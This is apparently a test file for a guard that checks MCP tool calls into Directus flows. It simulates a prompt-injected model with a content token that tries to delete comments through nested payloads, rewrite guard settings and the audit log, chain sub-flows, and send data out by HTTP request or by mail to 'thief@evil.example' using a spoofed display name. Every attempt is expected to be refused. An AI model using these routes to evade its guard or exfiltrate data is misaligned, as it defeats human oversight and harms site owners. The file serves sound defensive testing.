// Attempts around the guard through flows, through real Directus: a prompt-injected model with a content-mode
// token, and flows an administrator built in ordinary ways (steps that take values from the trigger, event
// flows, sub-flows, Send Email and Request steps). Each attempt is judged by its effect: rows, the settings
// row, the audit log, what a local HTTP listener and a local SMTP server receive. Legitimate flows keep
// running and doing their work.
//
// The free licence allows five active flows: each test deletes the flows it made.
import { test, before, after, afterEach } from 'node:test';
import assert from 'node:assert/strict';
import { createServer as createHttpServer } from 'node:http';
import { createServer as createTcpServer } from 'node:net';
import { startDirectus } from '../../scripts/lib/directus.mjs';
import { seed, seedRows, CONTENT_TOKEN } from '../../scripts/lib/seed.mjs';
import { callViaSdk, callViaHttp, rawRpc, toolCall, toolErrors, count, configureGuard, denial, assertDenied } from '../helpers.mjs';

let directus;
let articleIds;
let http;
let smtp;
const hits = [];
const recipients = [];
const flowIds = [];

/** A local SMTP server that accepts every message and notes each recipient (`RCPT TO`). */
function startSmtp() {
	const server = createTcpServer((socket) => {
		let buffer = '';
		let inData = false;
		socket.write('220 test ESMTP\r\n');
		socket.on('data', (chunk) => {
			buffer += chunk.toString('utf8');
			for (;;) {
				if (inData) {
					const end = buffer.indexOf('\r\n.\r\n');
					if (end === -1) return;
					buffer = buffer.slice(end + 5);
					inData = false;
					socket.write('250 queued\r\n');
					continue;
				}
				const eol = buffer.indexOf('\r\n');
				if (eol === -1) return;
				const line = buffer.slice(0, eol);
				buffer = buffer.slice(eol + 2);
				const verb = line.slice(0, 4).toUpperCase();
				if (verb === 'EHLO' || verb === 'HELO') socket.write('250 test\r\n');
				else if (verb === 'RCPT') {
					recipients.push(line.replace(/^RCPT TO:\s*<?([^>]*)>?.*$/i, '$1').toLowerCase());
					socket.write('250 ok\r\n');
				} else if (verb === 'DATA') {
					inData = true;
					socket.write('354 go on\r\n');
				} else if (verb === 'QUIT') {
					socket.end('221 bye\r\n');
					return;
				} else socket.write('250 ok\r\n');
			}
		});
		socket.on('error', () => {});
	});
	return new Promise((resolve) => server.listen(0, '127.0.0.1', () => resolve(server)));
}

before(async () => {
	http = createHttpServer((req, res) => {
		hits.push(req.url);
		res.end('{}');
	});
	await new Promise((resolve) => http.listen(0, '127.0.0.1', resolve));
	smtp = await startSmtp();
	directus = await startDirectus({
		name: 'adversarial-flows',
		env: {
			// Directus refuses requests to local addresses by default; the listener is local.
			IMPORT_IP_DENY_LIST: '',
			EMAIL_TRANSPORT: 'smtp',
			EMAIL_SMTP_HOST: '127.0.0.1',
			EMAIL_SMTP_PORT: String(smtp.address().port),
			EMAIL_SMTP_SECURE: 'false',
			EMAIL_SMTP_IGNORE_TLS: 'true',
			EMAIL_FROM: 'directus@example.com',
			FLOWS_ENV_ALLOW_LIST: 'MCP_TARGET,MCP_KEYS',
			MCP_TARGET: 'directus_settings',
			// The first three articles, which seedRows creates.
			MCP_KEYS: '1,2,3',
		},
	});
	await seed(directus);
	({ articleIds } = await seedRows(directus, 3));
});
after(async () => {
	await directus?.stop();
	http?.close();
	smtp?.close();
});
afterEach(async () => {
	for (const id of flowIds.splice(0)) await directus.api('DELETE', `/flows/${id}`);
	await configureGuard(directus, {});
});

const port = () => http.address().port;

/**
 * A flow whose operations run one after another (each the previous one's resolve). `trigger`: manual (on
 * articles), or `{trigger, options}` for other triggers.
 */
async function flow(name, operations, trigger = 'manual') {
	const kind = typeof trigger === 'string' ? { trigger, options: trigger === 'manual' ? { collections: ['articles'], requireSelection: false } : {} } : trigger;
	const created = await directus.api('POST', '/flows', { name, status: 'active', accountability: 'all', ...kind });
	flowIds.push(created.id);
	let next = null;
	for (const [i, op] of [...operations].reverse().entries()) {
		const made = await directus.api('POST', '/operations', {
			flow: created.id,
			name: `${op.type} ${i}`,
			key: `step_${operations.length - i}`,
			position_x: 19 + (operations.length - i) * 20,
			position_y: 1,
			resolve: next,
			...op,
		});
		next = made.id;
	}
	await directus.api('PATCH', `/flows/${created.id}`, { operation: next });
	return created.id;
}


function assertRan(result) {
	// Directus's log says why a flow did not run.
	if (toolErrors(result)) console.error(directus.log.slice(-4000));
	assert.equal(denial(result), null, JSON.stringify(result).slice(0, 500));
	assert.equal(toolErrors(result), null, JSON.stringify(result).slice(0, 500));
}

const trigger = (id, data = {}, extra = {}) => callViaSdk(directus, CONTENT_TOKEN, 'trigger-flow', { id, collection: 'articles', data, ...extra });
const commentsOf = (article) => count(directus, 'comments', { article: { _eq: article } });
const settingsRow = () => directus.api('GET', '/settings');
const article = (id) => directus.api('GET', `/items/articles/${id}`);

/** Waits until `check()` holds: an event the test caused (a request, a mail) has arrived. */
async function arrived(check, what) {
	const deadline = Date.now() + 15_000;
	while (!check()) {
		if (Date.now() > deadline) throw new Error(`${what} never arrived`);
		await new Promise((r) => setTimeout(r, 50));
	}
}

// The manual flow: Update Data with key {{$trigger.body.keys}} and payload {{$trigger.body.changes}}.
const applyChanges = () =>
	flow('Apply changes', [
		{ type: 'item-update', options: { collection: 'articles', key: '{{$trigger.body.keys}}', payload: '{{$trigger.body.changes}}', permissions: '$full' } },
	]);

test('1. a nested delete in the trigger body of an update step is refused, and the comment survives (SDK)', async () => {
	const id = await applyChanges();
	const [a] = articleIds;
	const comments = await directus.api('GET', `/items/comments?filter[article][_eq]=${a}`);
	const result = await trigger(id, { keys: [a], changes: { comments: { delete: [comments[0].id] } } }, { keys: [a] });
	const d = assertDenied(result, 'deletes.disabled');
	assert.match(d.reason, /comments/);
	assert.equal(await commentsOf(a), comments.length);
	// The attack is real: with deletes allowed, the same call deletes the comment.
	await configureGuard(directus, { mcp_allow_deletes: true });
	assertRan(await trigger(id, { keys: [a], changes: { comments: { delete: [comments[0].id] } } }, { keys: [a] }));
	assert.equal(await commentsOf(a), comments.length - 1);
});

test('2. a replace array in the trigger body is refused over raw HTTP, and no comment is deselected', async () => {
	const id = await applyChanges();
	const [, a] = articleIds;
	const before = await commentsOf(a);
	const result = await callViaHttp(directus, CONTENT_TOKEN, 'trigger-flow', { id, collection: 'articles', data: { keys: [a], changes: { comments: [{ body: 'only this one' }] } } });
	assertDenied(result, 'deletes.disabled');
	assert.equal(await commentsOf(a), before);
});

test('3. options given as JSON text with a value written in are parsed and judged, in registry mode too', async () => {
	const id = await flow('Apply comment changes', [
		{ type: 'item-update', options: { collection: 'articles', key: '{{$trigger.body.article}}', payload: '{"comments": {{$trigger.body.c}}}', permissions: '$full' } },
	]);
	const [a] = articleIds;
	const comments = await directus.api('GET', `/items/comments?filter[article][_eq]=${a}`);
	const message = toolCall('execute', { name: 'trigger-flow', input: { id, collection: 'articles', data: { article: a, c: { delete: [comments[0].id] } } } });
	const { json } = await rawRpc(directus, CONTENT_TOKEN, message, { registry: true });
	assertDenied(json.result, 'deletes.disabled');
	assert.equal(await commentsOf(a), comments.length);
});

test('4. the same flow with plain changes runs and does its work', async () => {
	const id = await applyChanges();
	const [a] = articleIds;
	const before = await commentsOf(a);
	assertRan(await trigger(id, { keys: [a], changes: { title: 'Renamed by a flow' } }));
	assert.equal((await article(a)).title, 'Renamed by a flow');
	assert.equal(await commentsOf(a), before);
});

test('5. a collection taken from the trigger body cannot reach directus_settings: Allow Deletes stays off', async () => {
	const id = await flow('Update anything', [
		{ type: 'item-update', options: { collection: '{{$trigger.body.target}}', key: '{{$trigger.body.key}}', payload: '{{$trigger.body.changes}}', permissions: '$full' } },
	]);
	const result = await trigger(id, { target: 'directus_settings', key: 1, changes: { mcp_allow_deletes: true, mcp_guard_enabled: false } });
	assertDenied(result, 'self-protection.guard-settings');
	const row = await settingsRow();
	assert.equal(row.mcp_allow_deletes, false);
	assert.equal(row.mcp_guard_enabled, true);
	// The same flow pointed at content does its work.
	assertRan(await trigger(id, { target: 'articles', key: articleIds[2], changes: { title: 'Set through a template' } }));
	assert.equal((await article(articleIds[2])).title, 'Set through a template');
});

test('6. a collection taken from the trigger body cannot read or rewrite the audit log', async () => {
	const read = await flow('Read anything', [{ type: 'item-read', options: { collection: '{{$trigger.body.target}}', permissions: '$full', query: { limit: 5 } } }]);
	const logRow = (await directus.api('GET', '/items/mcp_guard_log?limit=1&sort=-timestamp'))[0];
	assert.ok(logRow, 'earlier calls left audit rows');
	const result = await trigger(read, { target: 'mcp_guard_log' });
	assertDenied(result, 'self-protection.guard-collection');
	assert.ok(!JSON.stringify(result).includes(logRow.id), 'no audit row came back');
	for (const f of flowIds.splice(0)) await directus.api('DELETE', `/flows/${f}`);
	const rewrite = await flow('Rewrite anything', [
		{ type: 'item-update', options: { collection: '{{$trigger.body.target}}', key: '{{$trigger.body.key}}', payload: { reason: 'nothing happened' }, permissions: '$full' } },
	]);
	assertDenied(await trigger(rewrite, { target: 'mcp_guard_log', key: logRow.id }), 'self-protection.guard-collection');
	const after = await directus.api('GET', `/items/mcp_guard_log/${logRow.id}`);
	assert.equal(after.reason, logRow.reason);
});

test('7. keys taken from the trigger body count against Max Keys per Call', async () => {
	await configureGuard(directus, { mcp_guard_max_keys: 2 });
	const id = await flow('Retitle', [{ type: 'item-update', options: { collection: 'articles', key: '{{$trigger.body.keys}}', payload: { title: 'bulk' }, permissions: '$full' } }]);
	assertDenied(await trigger(id, { keys: articleIds }), 'caps.keys');
	assert.equal(await count(directus, 'articles', { title: { _eq: 'bulk' } }), 0);
	// Keys as text are split at commas, as Directus splits them.
	assertDenied(await trigger(id, { keys: articleIds.join(',') }), 'caps.keys');
	assert.equal(await count(directus, 'articles', { title: { _eq: 'bulk' } }), 0);
	assertRan(await trigger(id, { keys: articleIds.slice(0, 2) }));
	assert.equal(await count(directus, 'articles', { title: { _eq: 'bulk' } }), 2);
});

test('8. an event flow that deletes rows on article updates makes a plain MCP update a delete', async () => {
	const [a] = articleIds;
	await flow(
		'Purge doomed comments',
		[{ type: 'item-delete', options: { collection: 'comments', permissions: '$full', query: { filter: { body: { _eq: 'doomed' } } } } }],
		{ trigger: 'event', options: { type: 'action', scope: ['items.update'], collections: ['articles'] } },
	);
	await directus.api('POST', '/items/comments', { body: 'doomed', article: a });
	const doomed = () => count(directus, 'comments', { body: { _eq: 'doomed' } });
	const update = () => callViaSdk(directus, CONTENT_TOKEN, 'items', { action: 'update', collection: 'articles', keys: [a], data: { title: 'innocent edit' } });
	const d = assertDenied(await update(), 'deletes.disabled');
	assert.match(d.reason, /comments/);
	assert.equal(await doomed(), 1);
	assert.notEqual((await article(a)).title, 'innocent edit');
	// With deletes allowed, the update runs and so does the event flow (the flow works: the refusal mattered).
	await configureGuard(directus, { mcp_allow_deletes: true });
	assertRan(await update());
	// An action flow runs after the answer: wait for its delete to land.
	const deadline = Date.now() + 15_000;
	while ((await doomed()) !== 0 && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
	assert.equal(await doomed(), 0);
});

test('9. a flow step with Emit Events on sets off the event flow too', async () => {
	const [, a] = articleIds;
	await flow(
		'Purge doomed comments',
		[{ type: 'item-delete', options: { collection: 'comments', permissions: '$full', query: { filter: { body: { _eq: 'doomed' } } } } }],
		{ trigger: 'event', options: { type: 'filter', scope: ['items.update'], collections: ['articles'] } },
	);
	const touch = await flow('Touch', [{ type: 'item-update', options: { collection: 'articles', key: '{{$trigger.body.keys}}', payload: { title: 'touched' }, emitEvents: true, permissions: '$full' } }]);
	const quiet = await flow('Touch quietly', [{ type: 'item-update', options: { collection: 'articles', key: '{{$trigger.body.keys}}', payload: { title: 'touched quietly' }, permissions: '$full' } }]);
	await directus.api('POST', '/items/comments', { body: 'doomed', article: a });
	assertDenied(await trigger(touch, { keys: [a] }), 'deletes.disabled');
	assert.equal(await count(directus, 'comments', { body: { _eq: 'doomed' } }), 1);
	// Without Emit Events the step sets nothing off: it runs, and the doomed comment stays.
	assertRan(await trigger(quiet, { keys: [a] }));
	assert.equal((await article(a)).title, 'touched quietly');
	assert.equal(await count(directus, 'comments', { body: { _eq: 'doomed' } }), 1);
});

test('10. a Request step whose URL comes from the trigger body reaches no host that is not allowlisted', async () => {
	const id = await flow('Notify', [{ type: 'request', options: { method: 'POST', url: 'http://{{$trigger.body.host}}/{{$trigger.body.path}}', body: '{{$trigger.body}}' } }]);
	hits.length = 0;
	const d = assertDenied(await trigger(id, { host: `127.0.0.1:${port()}`, path: 'stolen' }), 'exfiltration.host-not-allowed');
	assert.match(d.reason, /127\.0\.0\.1/);
	// A host from data the guard cannot know is refused too.
	const unknown = await flow('Notify elsewhere', [{ type: 'request', options: { method: 'GET', url: '{{$env.MCP_TARGET}}' } }]);
	assertDenied(await trigger(unknown, {}), 'exfiltration.host-not-allowed');
	// Once the host is allowed, the same flow reaches it: the first request would have arrived had it run.
	await configureGuard(directus, { mcp_guard_allowed_hosts: ['127.0.0.1'] });
	assertRan(await trigger(id, { host: `127.0.0.1:${port()}`, path: 'allowed' }));
	await arrived(() => hits.includes('/allowed'), 'the allowed request');
	assert.deepEqual(hits, ['/allowed']);
});

test('11. Send Email reaches allowlisted recipients only', async () => {
	const id = await flow('Mail', [{ type: 'mail', options: { to: ['{{$trigger.body.to}}'], subject: 'Report', body: '{{$trigger.body.text}}', type: 'markdown' } }]);
	recipients.length = 0;
	assertDenied(await trigger(id, { to: 'thief@evil.example', text: 'secrets' }), 'exfiltration.recipient-not-allowed');
	// A display name hides where the mail goes: not read, so refused even with the domain allowed.
	await configureGuard(directus, { mcp_guard_allowed_recipients: ['example.com'] });
	assertDenied(await trigger(id, { to: '"team@example.com" <thief@evil.example>', text: 'secrets' }), 'exfiltration.recipient-not-allowed');
	assertRan(await trigger(id, { to: 'team@example.com', text: 'weekly report' }));
	await arrived(() => recipients.includes('team@example.com'), 'the allowed mail');
	assert.deepEqual(recipients, ['team@example.com']);
});

test('12. trigger chains: sub-flows are read with the payload they are handed', async () => {
	const sub = await flow(
		'Switch on deletes',
		[{ type: 'item-update', options: { collection: 'directus_settings', key: 1, payload: { mcp_allow_deletes: true }, permissions: '$full' } }],
		{ trigger: 'operation', options: {} },
	);
	const chain = await flow('Run a sub-flow', [{ type: 'trigger', options: { flow: '{{$trigger.body.next}}', payload: '{{$trigger.body}}' } }]);
	assertDenied(await trigger(chain, { next: sub }), 'self-protection.guard-settings');
	assert.equal((await settingsRow()).mcp_allow_deletes, false);
	const deleteGiven = await flow(
		'Delete what it is given',
		[{ type: 'item-delete', options: { collection: 'comments', key: '{{$trigger.ids}}', permissions: '$full' } }],
		{ trigger: 'operation', options: {} },
	);
	const [, , a] = articleIds;
	const ids = (await directus.api('GET', `/items/comments?filter[article][_eq]=${a}`)).map((c) => c.id);
	assert.ok(ids.length >= 2);
	assertDenied(await trigger(chain, { next: deleteGiven, ids }), 'deletes.disabled');
	assert.equal(await commentsOf(a), ids.length);
	// The keys were read from the payload: with deletes allowed they still count against Max Keys.
	await configureGuard(directus, { mcp_allow_deletes: true, mcp_guard_max_keys: 1 });
	assertDenied(await trigger(chain, { next: deleteGiven, ids }), 'caps.keys');
	assert.equal(await commentsOf(a), ids.length);
	// Within the limits the chain runs and deletes the comment it was given.
	assertRan(await trigger(chain, { next: deleteGiven, ids: [ids[0]] }));
	assert.equal(await commentsOf(a), ids.length - 1);
});

test('13. a collection from $env (an earlier step or the environment) is unknown, and unknown is every collection', async () => {
	const id = await flow('Update configured target', [{ type: 'item-update', options: { collection: '{{$env.MCP_TARGET}}', key: 1, payload: { mcp_allow_deletes: true }, permissions: '$full' } }]);
	const d = assertDenied(await trigger(id, {}), 'unknown.effect');
	assert.match(d.reason, /\$env/);
	assert.equal((await settingsRow()).mcp_allow_deletes, false);
});

test('14. a legitimate flow with fixed options keeps running and creates its row', async () => {
	const [a] = articleIds;
	const id = await flow('Add a thank-you', [{ type: 'item-create', options: { collection: 'comments', payload: { body: 'Thanks from a flow', article: a }, permissions: '$full' } }]);
	const before = await count(directus, 'comments', { body: { _eq: 'Thanks from a flow' } });
	assertRan(await trigger(id, {}, { keys: [a] }));
	assert.equal(await count(directus, 'comments', { body: { _eq: 'Thanks from a flow' } }), before + 1);
});

test('15. keys the guard cannot know, in a step that emits no events, count as more than Max Keys per Call', async () => {
	const id = await flow('Retitle from the environment', [
		{ type: 'item-update', options: { collection: 'articles', key: '{{$env.MCP_KEYS}}', payload: { title: 'from env' }, permissions: '$full' } },
	]);
	await configureGuard(directus, { mcp_guard_max_keys: 2 });
	assertDenied(await trigger(id), 'caps.keys');
	assert.equal(await count(directus, 'articles', { title: { _eq: 'from env' } }), 0);
	// Without a limit the same flow runs: the refusal above is what kept the three rows.
	await configureGuard(directus, { mcp_guard_max_keys: null });
	assertRan(await trigger(id));
	assert.equal(await count(directus, 'articles', { title: { _eq: 'from env' } }), 3);
});
